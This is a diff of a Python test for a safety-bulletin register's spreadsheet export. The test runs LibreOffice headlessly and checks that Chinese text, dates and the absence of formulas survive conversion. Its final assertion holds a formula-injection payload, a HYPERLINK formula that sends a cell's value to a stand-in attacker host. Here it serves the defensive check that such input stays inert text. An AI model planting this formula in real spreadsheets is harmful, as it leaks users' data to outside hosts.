@@ -4,13 +4,16 @@ text is a text cell), frozen header, autofilter, widths; and the same bytes from
 
 import datetime as dt
 import json
+import shutil
 import string
+import subprocess
+import zipfile
 
 import openpyxl
 import pytest
 
 from helpers import SITE_YML, UNITS_YML, build, write_tree
-from test_spreadsheet import FOLLOW_UP, HOSTILE_TITLES, meeting, read_csv, unquote
+from test_spreadsheet import FOLLOW_UP, HOSTILE_TITLES, meeting, read_csv, soffice, unquote
 
 from safety_bulletins.outputs.spreadsheet import code_columns, directive_columns
 from safety_bulletins.outputs.workbook import DATE_COLUMNS, MEETING_COLUMNS, display_width, sheet_names
@@ -150,3 +153,29 @@ def test_sheet_names_excel_accepts(wanted, names):
         assert 0 < len(name) <= 31 and not set(name) & set("[]:*?/\\") and not name.startswith("'")
     assert len({n.casefold() for n in made}) == len(made)
     assert set("".join(made)) <= set(string.printable)
+
+
+def test_libreoffice_opens_the_workbook_as_it_is(sites, tmp_path):
+    """LibreOffice given directives.csv with no import options reads it as the Windows code page,
+    BOM or not (7.4: the import dialog detects the BOM, a plain open or conversion does not), so the
+    Chinese comes out garbled; the workbook needs no options: opened as it is, every text is
+    intact, dates stay dates and nothing runs."""
+    shutil.copy(sites["zh"] / "directives.xlsx", tmp_path / "directives.xlsx")
+    shutil.copy(sites["zh"] / "directives.csv", tmp_path / "register.csv")
+    csv_bytes = (tmp_path / "register.csv").read_bytes()
+    assert csv_bytes.startswith(b"\xef\xbb\xbf") and len(read_csv(csv_bytes)) == csv_bytes.count(b"\r\n")
+    result = subprocess.run(
+        [soffice(), f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to", "ods",
+         "--outdir", str(tmp_path / "out"), str(tmp_path / "directives.xlsx"), str(tmp_path / "register.csv")],
+        capture_output=True, text=True, timeout=180)
+    assert (tmp_path / "out" / "directives.ods").is_file(), result.stdout + result.stderr
+    # LibreOffice's own file, read back: its content.xml holds the cells' text and types
+    content, from_csv = (zipfile.ZipFile(tmp_path / "out" / name).read("content.xml").decode("utf-8")
+                         for name in ("directives.ods", "register.ods"))
+    assert content.count("<table:table ") == 3
+    assert "ZH-1" in from_csv and "清理消防通道" not in from_csv  # the control: the CSV's Chinese garbled
+    for text in ("全部事项", "已逾期", "按单位", "清理消防通道堆放物，恢复疏散通道畅通", "能源公司", "重大隐患"):
+        assert text in content, text
+    assert 'office:value-type="date" office:date-value="2021-06-01"' in content
+    assert "table:formula" not in content
+    assert "=HYPERLINK(&quot;http://evil.test/?&quot;&amp;A1,&quot;Details&quot;)" in content
